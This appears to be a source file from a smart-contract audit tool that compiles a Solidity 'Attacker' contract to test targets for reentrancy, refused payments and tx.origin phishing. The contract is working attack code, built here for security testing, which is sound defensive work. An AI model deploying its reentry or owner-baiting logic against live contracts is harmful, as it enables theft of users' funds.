/**
 * The attacker's contract. The attacker strikes through it, so the target sees a contract as its
 * caller, one that can answer when the target calls it back:
 * - re-enter: call the target again from `receive`/`fallback` while it is still running (SWC-107);
 * - refuse: revert on every incoming call, so that a `send` or `call` to it fails (SWC-104);
 * - accept: take the ether and do nothing.
 * And it can bait the owner (SWC-115): when the owner calls it, it calls the target in the owner's
 * transaction, where `tx.origin` is the owner.
 *
 * The mode of a strike lives in transient storage (EIP-1153): reading it costs 100 gas, so even
 * under the 2300-gas stipend of `transfer`/`send` the contract knows whether to refuse.
 */
import { type AbiFunction, encodeCall, findFunction } from "../../abi/index.js";
import { type CompiledContract, compileSoliditySource } from "../../compile/index.js";
import { addressText } from "./actors.js";

export const ATTACKER_SOURCE = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

contract Attacker {
    uint256 private constant ACCEPT = 0;
    uint256 private constant REENTER = 1;
    uint256 private constant REFUSE = 2;
    /// Transient slots: the strike's mode and how often it has re-entered so far.
    uint256 private constant MODE_SLOT = 0;
    uint256 private constant DEPTH_SLOT = 1;

    address private immutable owner;
    address private target;
    bytes private reentry;
    uint256 private reentries;
    bytes private bait;

    constructor() {
        owner = msg.sender;
    }

    /// Calls the target with all the ether sent along, answering call-backs in \`mode\`.
    function strike(address to, bytes calldata data, uint256 mode, bytes calldata again, uint256 times)
        external
        payable
    {
        require(msg.sender == owner);
        target = to;
        reentry = again;
        reentries = times;
        assembly {
            tstore(MODE_SLOT, add(mode, 1))
            tstore(DEPTH_SLOT, 0)
        }
        (bool ok, bytes memory returned) = to.call{value: msg.value}(data);
        if (!ok) {
            assembly {
                revert(add(returned, 32), mload(returned))
            }
        }
    }

    /// Arms the bait: the next call from anyone (the phished owner) runs \`data\` on the target.
    function setBait(address to, bytes calldata data) external {
        require(msg.sender == owner);
        target = to;
        bait = data;
    }

    receive() external payable {
        react();
    }

    fallback() external payable {
        react();
    }

    function react() private {
        uint256 mode;
        assembly {
            mode := tload(MODE_SLOT)
        }
        if (mode == 0) {
            // Outside a strike: someone (the phished owner) called us.
            if (gasleft() > 100000 && bait.length > 0) {
                (bool ok, ) = target.call(bait);
                ok;
            }
            return;
        }
        mode -= 1;
        if (mode == REFUSE) revert();
        if (mode != REENTER || gasleft() < 50000) return;
        uint256 depth;
        assembly {
            depth := tload(DEPTH_SLOT)
        }
        if (depth >= reentries) return;
        assembly {
            tstore(DEPTH_SLOT, add(depth, 1))
        }
        (bool reentered, ) = target.call(reentry);
        reentered;
    }
}
`;

export const enum AnswerMode {
  Accept = 0,
  Reenter = 1,
  Refuse = 2,
}

export interface AttackerContract {
  readonly compiled: CompiledContract;
  readonly strike: AbiFunction;
  readonly setBait: AbiFunction;
}

let cached: AttackerContract | undefined;

/** Compiled once per process with the newest installed solc. */
export function attackerContract(): AttackerContract {
  if (cached === undefined) {
    const compiled = compileSoliditySource(ATTACKER_SOURCE, { sourceName: "svm-audit/Attacker.sol", evmVersion: "cancun" })
      .contracts.find((c) => c.name === "Attacker")!;
    cached = { compiled, strike: findFunction(compiled.abi, "strike"), setBait: findFunction(compiled.abi, "setBait") };
  }
  return cached;
}

export function strikeCalldata(target: bigint, data: Uint8Array, mode: AnswerMode, again: Uint8Array, times: number): Uint8Array {
  return encodeCall(attackerContract().strike, [addressText(target), data, BigInt(mode), again, BigInt(times)]);
}

export function setBaitCalldata(target: bigint, data: Uint8Array): Uint8Array {
  return encodeCall(attackerContract().setBait, [addressText(target), data]);
}
